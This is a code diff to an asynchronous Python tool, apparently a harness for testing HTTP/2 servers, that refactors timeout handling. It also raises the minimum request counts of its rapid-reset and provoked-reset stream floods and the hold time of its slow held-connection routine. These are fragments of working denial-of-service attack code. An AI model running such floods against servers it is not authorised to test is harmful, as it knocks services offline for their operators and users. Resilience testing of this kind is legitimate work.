@@ -188,8 +188,8 @@ class Connection:
 
     @classmethod
     async def open(cls, target: Target, values: Mapping[int, int] | None = None, *, polite: bool = True) -> Connection:
-        connecting = asyncio.open_connection(target.host, target.port, ssl=target.tls, server_hostname=target.host)
-        reader, writer = await asyncio.wait_for(connecting, CONNECT_TIMEOUT)
+        async with asyncio.timeout(CONNECT_TIMEOUT):
+            reader, writer = await asyncio.open_connection(target.host, target.port, ssl=target.tls, server_hostname=target.host)
         connection = cls(target, reader, writer, polite=polite)
         connection.write(PREFACE + settings(values or {}))
         return connection
@@ -208,7 +208,8 @@ class Connection:
     async def flush(self) -> bool:
         """Until the kernel has it; whether the connection still stands and the server reads."""
         try:
-            await asyncio.wait_for(self._writer.drain(), STALL_TIMEOUT)
+            async with asyncio.timeout(STALL_TIMEOUT):
+                await self._writer.drain()
         except TimeoutError:
             self.stalled = True
         except (OSError, ssl.SSLError):
@@ -221,10 +222,11 @@ class Connection:
         """The `grpc-status` of an honest call; empty when the server gave none."""
         stream = self.stream()
         ended = self.ended[stream] = asyncio.get_running_loop().create_future()
-        self.write(self.request(stream, path) + frame(Frame.DATA, Flag.END_STREAM, stream, message))
-        await self.flush()
         try:
-            return await asyncio.wait_for(ended, ANSWER_TIMEOUT)
+            self.write(self.request(stream, path) + frame(Frame.DATA, Flag.END_STREAM, stream, message))
+            await self.flush()
+            async with asyncio.timeout(ANSWER_TIMEOUT):
+                return await ended
         finally:
             self.ended.pop(stream, None)
 
@@ -238,8 +240,7 @@ class Connection:
         """Until the server has ended it, or the time is over."""
         if self._paused:
             self._paused, self._reading = False, asyncio.create_task(self._read())
-        with contextlib.suppress(TimeoutError):
-            await asyncio.wait_for(asyncio.shield(self._reading), seconds)
+        await asyncio.wait({self._reading}, timeout=seconds)
 
     async def close(self) -> None:
         self._reading.cancel()
@@ -330,7 +331,7 @@ async def rapid_reset(target: Target, scale: float = 1.0) -> Observation:
             stream = connection.stream()
             return connection.request(stream, PUBLISH) + reset(stream)
 
-        return await _flood(connection, "rapid_reset", round(20_000 * scale), make)
+        return await _flood(connection, "rapid_reset", max(2_000, round(20_000 * scale)), make)
 
 
 async def provoked_reset(target: Target, scale: float = 1.0) -> Observation:
@@ -341,7 +342,7 @@ async def provoked_reset(target: Target, scale: float = 1.0) -> Observation:
             stream = connection.stream()
             return connection.request(stream, PUBLISH) + window_update(stream, 0)
 
-        return await _flood(connection, "provoked_reset", round(20_000 * scale), make)
+        return await _flood(connection, "provoked_reset", max(2_000, round(20_000 * scale)), make)
 
 
 async def continuation_flood(target: Target, scale: float = 1.0) -> Observation:
@@ -474,13 +475,14 @@ async def silent_connections(target: Target, scale: float = 1.0) -> Observation:
 
 async def _held(name: str, target: Target, tls: ssl.SSLContext | None, beginning: bytes, scale: float) -> Observation:
     """Many connections that say `beginning` and nothing else for half a minute."""
-    count, hold = max(1, round(500 * scale)), max(2.0, 30 * scale)
+    count, hold = max(1, round(500 * scale)), max(6.0, 30 * scale)
     began, refused = time.monotonic(), 0
     writers, endings = [], []
     for _ in range(count):
-        connecting = asyncio.open_connection(target.host, target.port, ssl=tls, server_hostname=target.host if tls else None)
+        name_sent = target.host if tls else None
         try:
-            reader, writer = await asyncio.wait_for(connecting, CONNECT_TIMEOUT)
+            async with asyncio.timeout(CONNECT_TIMEOUT):
+                reader, writer = await asyncio.open_connection(target.host, target.port, ssl=tls, server_hostname=name_sent)
         except (OSError, ssl.SSLError):
             refused += 1
             continue
